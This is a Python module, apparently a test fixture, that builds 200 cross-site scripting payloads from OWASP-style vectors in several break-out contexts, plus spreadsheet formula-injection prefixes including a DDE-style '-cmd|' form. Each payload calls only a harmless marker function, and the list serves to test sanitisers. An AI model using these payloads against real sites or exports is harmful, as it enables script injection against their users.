"""Two hundred texts that are scripts to whoever pastes them into a page: markup, attributes, addresses, templates.

Each calls `ran()` when it runs. None is longer than 78 characters, so that each fits into every name.
After the families of the OWASP filter evasion cheat sheet, and mXSS forms that survive a naive clean-up.
"""

_VECTORS = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<iframe srcdoc='<script>top.ran()</script>'>",
    "<iframe src=javascript:top.ran()>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video src=x onerror=ran()>",
    "<audio src=x onerror=ran()>",
    "<object data=javascript:ran()>",
    "<embed src=javascript:ran()>",
    "<a href=javascript:ran()>x</a>",
    "<math href=javascript:ran()>x",
    "<style>@import'javascript:ran()'</style>",
    "<style onload=ran()></style>",
    "<marquee onstart=ran()>",
    "<meta http-equiv=refresh content=0;url=javascript:ran()>",
    "<form action=javascript:ran()><button autofocus>",
    "<base href=javascript:ran()//>",
    "<template><img src=x onerror=ran()>",
    "<select autofocus onfocus=ran()>",
    "{@html '<img src=x onerror=ran()>'}",
    "{{constructor.constructor('ran()')()}}",
)
_SHAPES = (
    "{}",  # As it is.
    '">{}',  # Out of an attribute in double quotes.
    "'>{}",  # Out of one in single quotes.
    "</title>{}",  # Out of a text-only element.
    "</script>{}",  # Out of a script with data in it.
    "]]>{}",  # Out of a CDATA section of an SVG.
    "--!>{}",  # Out of a comment.
    "{formula}{}",  # A formula for the spreadsheet that opens the export.
)
# What begins a formula: also in full width, behind a space, and behind the separator of another country.
_FORMULAS = ("=1+1;", "+1;", "-1;", "@A1;", "＝1;", "－1;", "＋1;", "＠A1;", "a;=1;", "a;-cmd|;")


def payloads() -> list[str]:
    """200 of them, no two alike."""
    return [
        shape.format(vector, formula=_FORMULAS[at % len(_FORMULAS)])
        for at, vector in enumerate(_VECTORS)
        for shape in _SHAPES
    ]
